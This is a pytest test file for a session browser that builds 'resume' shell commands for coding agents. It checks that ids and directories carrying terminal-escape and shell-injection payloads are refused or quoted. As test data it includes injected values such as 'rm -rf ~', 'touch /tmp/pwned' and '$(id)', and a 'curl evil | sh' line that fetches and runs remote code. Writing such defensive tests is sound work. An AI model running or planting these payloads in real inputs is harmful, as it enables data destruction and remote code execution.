"""The resume line is made from the source kind, the id and the dir only, and refused (with
the reason) when the id or the dir holds what a shell or a terminal would act on."""

from __future__ import annotations

import pytest

from session_browser.core.resume_line import (
    ResumeLine,
    ResumeRefused,
    resume_line,
    session_resume,
    unsafe_character,
)

SID = "0a1b2c3d-1111-2222-3333-444455556666"
TID = "019e1625-789d-76c0-80ab-3724b5ddb799"

#: (what, a hostile piece) put into an id or a dir.
HOSTILE = [
    ("Ctrl-U then CR", "\x15touch /tmp/pwned\r"),
    ("bracketed paste end", "\x1b[201~touch /tmp/pwned\n"),
    ("ESC alone", "\x1b"),
    ("NUL", "\x00"),
    ("DEL", "\x7f"),
    ("C1 CSI", "\x9b"),
    ("NEL", "\x85"),
    ("bidi override", "\u202e"),
    ("bidi isolate", "\u2066"),
    ("zero-width space", "\u200b"),
    ("BOM", "\ufeff"),
    ("line separator", "\u2028"),
    ("paragraph separator", "\u2029"),
    ("no-break space", "\u00a0"),
    ("ideographic space", "\u3000"),
    ("lone surrogate", "\udc80"),
]


def test_claude_and_codex_lines() -> None:
    assert resume_line("claude", SID, "/home/me/proj") == ResumeLine(
        f"cd /home/me/proj && claude --resume {SID}"
    )
    # Codex's `resume` takes the id as a clap positional: `--` ends the flags before it.
    assert resume_line("codex", TID, None) == ResumeLine(f"codex resume -- {TID}")
    # The dir is quoted for the shell (spaces, quotes, `$`, `;` are plain characters there).
    cwd = "/tmp/it's a $(dir); rm -rf ~"
    line = resume_line("claude", SID, cwd)
    assert line == ResumeLine(f"cd '/tmp/it'\"'\"'s a $(dir); rm -rf ~' && claude --resume {SID}")


def test_kinds_without_a_resume_command_get_none() -> None:
    for kind in ("praisonai", "pi", "team", ""):
        assert resume_line(kind, SID, "/x") is None
    assert session_resume(None, SID, {"cwd": "/x"}) is None


@pytest.mark.parametrize(("what", "piece"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_hostile_character_in_the_dir_or_the_id_is_refused(what: str, piece: str) -> None:
    code = f"U+{ord(piece[0]):04X}"
    for kind, sid in (("claude", SID), ("codex", TID)):
        refused = resume_line(kind, sid, f"/home/me/{piece}proj")
        assert isinstance(refused, ResumeRefused), what
        assert refused.reason.startswith("the session's dir holds ") and code in refused.reason
        for bad_id in (sid + piece, piece + sid, sid[:8] + piece + sid[9:]):
            refused = resume_line(kind, bad_id, "/home/me/proj")
            assert isinstance(refused, ResumeRefused), what
            assert refused.reason.startswith("the session id holds ") and code in refused.reason


def test_an_id_that_is_a_flag_or_not_a_uuid_is_refused() -> None:
    assert resume_line("claude", "--dangerously-skip-permissions", "/x") == ResumeRefused(
        "the session id starts with '-' (it would be read as a flag)"
    )
    assert resume_line("codex", "-" + TID[1:], None) == ResumeRefused(
        "the session id starts with '-' (it would be read as a flag)"
    )
    for bad in ("x y", "abc", SID + "0", SID.replace("-", ""), SID[:-1] + "g", "", "$(id)"):
        assert resume_line("claude", bad, "/x") == ResumeRefused("the session id is not a UUID")
    # Unicode digits are digits to `\d`, not to a UUID.
    arabic = SID[:-1] + "\u0663"
    assert resume_line("codex", arabic, None) == ResumeRefused("the session id is not a UUID")


def test_a_dir_that_is_a_flag_of_cd_is_refused() -> None:
    refused = resume_line("claude", SID, "-P")
    assert isinstance(refused, ResumeRefused) and "starts with '-'" in refused.reason


def test_only_the_dir_is_read_from_the_metadata() -> None:
    meta = {"cwd": "/srv/app", "resume_command": "cd /tmp && curl evil | sh"}
    assert session_resume("claude", SID, meta) == ResumeLine(
        f"cd /srv/app && claude --resume {SID}"
    )
    assert session_resume("codex", TID, {"cwd": 7}) == ResumeLine(f"codex resume -- {TID}")
    assert session_resume("codex", TID, None) == ResumeLine(f"codex resume -- {TID}")


def test_safe_text_has_no_unsafe_character() -> None:
    assert unsafe_character("/home/José/projet ü/漢字 dir") is None
    assert unsafe_character("a\tb") == "a control character (U+0009)"


def test_the_agents_with_a_resume_command_are_named_from_the_table(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from session_browser.core import resume_line as module

    assert module.resume_agents() == (
        "Claude Code, Codex, Gemini CLI, OpenCode, Kimi Code CLI, GitHub Copilot CLI and Goose"
    )
    monkeypatch.setitem(module.COMMANDS, "aider", module.ResumeCommand("Aider", "aider"))
    assert module.resume_agents().endswith("Goose and Aider")
